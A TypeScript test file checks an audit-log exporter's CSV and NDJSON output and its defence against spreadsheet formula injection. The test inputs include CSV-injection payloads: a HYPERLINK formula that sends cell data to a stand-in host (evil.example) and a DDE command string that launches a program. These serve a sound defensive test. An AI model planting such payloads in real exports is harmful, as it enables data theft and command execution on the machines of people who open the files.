import { describe, expect, it } from 'vitest';
import type { AuditEntry } from '#shared/contracts/audit.js';
import { exportHeader, exportText } from './export-text.js';

const entry = (over: Partial<AuditEntry> = {}): AuditEntry => ({
  ...{ id: 7, timestamp: '2026-11-20T08:00:00.000Z', user: 'u-1', action: 'CREATE_APP' },
  ...{ details: { name: 'Gimp' }, resource_type: 'app', resource_id: 'gimp', outcome: 'done' },
  ...{ ip_address: '192.0.2.7', user_agent: 'Firefox', sequence: 9 },
  ...over,
});

describe('a file of entries', () => {
  it('is CSV as RFC 4180 has it', () => {
    const awkward = entry({ user_agent: 'a "b",\r\nc;d', details: { name: 'x,y' } });
    expect(exportHeader('csv') + exportText('csv', [{ ...awkward, user_name: 'Una' }])).toBe(
      [
        '"id","timestamp","user","user_name","action","resource_type","resource_id","outcome","ip_address","user_agent","details","sequence"',
        '"7","2026-11-20T08:00:00.000Z","u-1","Una","CREATE_APP","app","gimp","done","192.0.2.7","a ""b"",\r\nc;d","{""name"":""x,y""}","9"',
        '',
      ].join('\r\n'),
    );
  });

  it('is one JSON object a line', () => {
    const text = exportText('ndjson', [entry(), { ...entry({ id: 8 }), user_name: 'a\nb' }]);
    const lines = text.trimEnd().split('\n');
    expect(lines.map((line) => JSON.parse(line) as unknown)).toEqual([
      entry(),
      { ...entry({ id: 8 }), user_name: 'a\nb' },
    ]);
    expect(exportHeader('ndjson')).toBe('');
  });

  it('has nothing in it where there is nothing', () => {
    expect([exportText('csv', []), exportText('ndjson', [])]).toEqual(['', '']);
  });

  it.each([
    '=1+1',
    '+1',
    '-1',
    '@SUM(A1)',
    '\t=1',
    '\r=1',
    '\n=1',
    ' =1',
    '\u0000=1',
    '＝1',
    '＋1',
    '－1',
    '＠x',
    `=HYPERLINK("https://evil.example?"&A1,"x")`,
    "=cmd|'/C calc'!A0",
  ])('has %j as text that no spreadsheet calculates', (text) => {
    const row = exportText('csv', [entry({ user_agent: text, resource_id: text })]);
    expect(row).toContain(`"'${text.replaceAll('"', '""')}"`);
    expect(row).not.toContain(`"${text.replaceAll('"', '""')}"`);
  });
});
